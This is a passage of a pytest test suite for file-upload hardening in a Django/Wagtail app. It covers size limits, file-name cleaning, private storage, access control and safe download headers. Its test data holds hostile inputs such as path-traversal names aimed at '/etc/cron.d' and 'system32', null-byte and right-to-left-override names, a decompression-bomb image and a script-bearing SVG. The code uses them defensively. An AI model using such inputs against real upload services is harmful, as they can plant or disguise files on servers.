        content = pdf_with_stream(lzw(b"BT ET " * 100), ["/LZWDecode"])
        assert "too large to check" in self._refused(challenge, startup, content)

    def test_too_many_objects_are_refused(self, challenge, startup, monkeypatch):
        monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 3)
        assert "too many parts" in self._refused(challenge, startup, PDF)


class OneCodePathTests:
    def test_the_service_is_the_only_door_for_attachments(self):
        """Every module that stores an entry attachment calls the service, which
        calls the check: found by reading the code, not from a list."""
        root = Path(__file__).resolve().parents[2]
        writers = []
        for path in root.glob("*/**/*.py"):
            if (
                ".venv" in path.parts
                or "tests" in path.parts
                or "migrations" in path.parts
            ):
                continue
            text = path.read_text()
            if re.search(
                r"(?<!class )EntryAttachment\(|EntryAttachment\.objects\.\w*create",
                text,
            ):
                writers.append(path.relative_to(root).as_posix())
        assert writers == ["challenges/services.py"]
        assert "upload_check(upload)" in (root / "challenges/services.py").read_text()


class InertStorageTests:
    def test_a_file_of_exactly_the_limit_is_accepted(self, challenge, startup):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        content = pdf_of_size(LIMIT)
        assert len(content) == LIMIT
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload("full.pdf", content)
        )
        assert attachment.size == LIMIT
        assert attachment.content_type == "application/pdf"

    @pytest.mark.parametrize(
        ("sent", "kept"),
        [
            ("..\\..\\windows\\system32\\evil.pdf", "evil.pdf"),
            ("report\x00.exe.pdf", "report.exe.pdf"),
            ("line\nbreak\r\n.pdf", "line break.pdf"),
            ("\u202eplan.pdf", "plan.pdf"),
            ("  ...hidden.pdf  ", "hidden.pdf"),
            ("no-extension", "no-extension.pdf"),
            ("a" * 300 + ".pdf", "a" * 146 + ".pdf"),
        ],
    )
    def test_names_lose_paths_and_control_characters(
        self, challenge, startup, settings, sent, kept
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload(sent, PDF)
        )
        assert attachment.original_name == kept
        path = Path(attachment.file.path).resolve()
        assert path.is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT).resolve())
        assert kept.split(".")[0] not in path.name  # stored under a random name

    def test_path_traversal_through_the_form_is_stored_inside_the_private_folder(
        self, client, challenge, startup, settings
    ):
        _, user = startup
        client.force_login(user)
        entry = services.entry_start(challenge=challenge, user=user)
        response = client.post(
            reverse("entry_attachments", args=[entry.pk]),
            {"file": upload("../../../../etc/cron.d/evil.pdf", PDF)},
        )
        assert response.status_code == 302
        attachment = EntryAttachment.objects.get()
        assert attachment.original_name == "evil.pdf"
        root = Path(settings.PRIVATE_MEDIA_ROOT).resolve()
        assert Path(attachment.file.path).resolve().is_relative_to(root)
        assert not Path("/etc/cron.d/evil.pdf").exists()

    @pytest.mark.parametrize(
        ("name", "content", "content_type"),
        [
            ("plan.pdf", PDF, "application/pdf"),
            ("photo.jpeg", None, "image/jpeg"),
            ("cv.docx", docx_bytes(), "application/vnd.openxmlformats-officedocument"),
        ],
    )
    def test_served_only_as_a_download_with_a_safe_type(
        self, client, challenge, startup, name, content, content_type
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload(name, content or jpeg(), "text/html")
        )
        client.force_login(user)
        response = client.get(reverse("attachment_download", args=[attachment.pk]))
        assert response.status_code == 200
        assert response["Content-Type"].startswith(content_type)  # not the browser's
        assert response["Content-Disposition"].startswith("attachment;")
        assert name in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "private" in response["Cache-Control"]
        assert b"".join(response.streaming_content) == (content or jpeg())

    def test_a_stranger_cannot_download_it(
        self, client, challenge, startup, other_startup
    ):
        _, user = startup
        entry = services.entry_start(challenge=challenge, user=user)
        attachment = services.entry_attachment_add(
            entry=entry, by=user, upload=upload("plan.pdf", PDF)
        )
        client.force_login(other_startup[1])
        response = client.get(reverse("attachment_download", args=[attachment.pk]))
        assert response.status_code == 404


# --- The Wagtail admin's image and document uploads -----------------------------------


@pytest.fixture
def lead_client(client, demo_site, login):
    login("lead@impactlab.example")
    return client


def _admin_post(client, url_name, name, content):
    return client.post(
        reverse(url_name),
        {
            "title": "Upload",
            "file": upload(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )


class WagtailUploadLimitTests:
    def test_a_good_image_is_accepted(self, lead_client):
        response = _admin_post(lead_client, "wagtailimages:add", "chart.png", PNG)
        assert response.status_code == 302
        assert get_image_model().objects.count() == 1

    @pytest.mark.parametrize(
        ("name", "build", "message"),
        [
            ("bomb.png", decompression_bomb_png, "pixels"),
            ("big.png", image_over_40_megapixels, "pixels"),
            ("logo.svg", lambda: SVG_WITH_SCRIPT, "Not a supported image format"),
            ("huge.png", lambda: PNG + b"\x00" * (10 * 1024 * 1024), "too big"),
        ],
    )
    def test_images_over_the_limits_are_refused(
        self, lead_client, name, build, message
    ):
        response = _admin_post(lead_client, "wagtailimages:add", name, build())
        assert response.status_code == 200
        assert message in response.content.decode()
        assert get_image_model().objects.count() == 0

    def test_a_good_document_is_accepted(self, lead_client):
        response = _admin_post(lead_client, "wagtaildocs:add", "plan.pdf", PDF)
        assert response.status_code == 302
        assert get_document_model().objects.count() == 1

    @pytest.mark.parametrize(
        ("name", "content", "message"),
        [
            ("setup.exe", EXE, "not allowed"),
            ("page.html", HTML_AS_PDF, "not allowed"),
            ("logo.svg", SVG_WITH_SCRIPT, "not allowed"),
            ("big.pdf", pdf_of_size(LIMIT + 1), "too big"),
        ],
    )
    def test_documents_outside_the_allow_list_are_refused(
        self, lead_client, name, content, message
    ):
        response = _admin_post(lead_client, "wagtaildocs:add", name, content)
        assert response.status_code == 200
        assert message in response.content.decode()
        assert get_document_model().objects.count() == 0

    def test_documents_are_served_as_inert_downloads(self, client, lead_client):
        _admin_post(lead_client, "wagtaildocs:add", "plan.pdf", PDF)
        document = get_document_model().objects.get()
        client.logout()
        response = client.get(document.url)
        assert response.status_code == 200
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"].startswith("default-src 'none'")
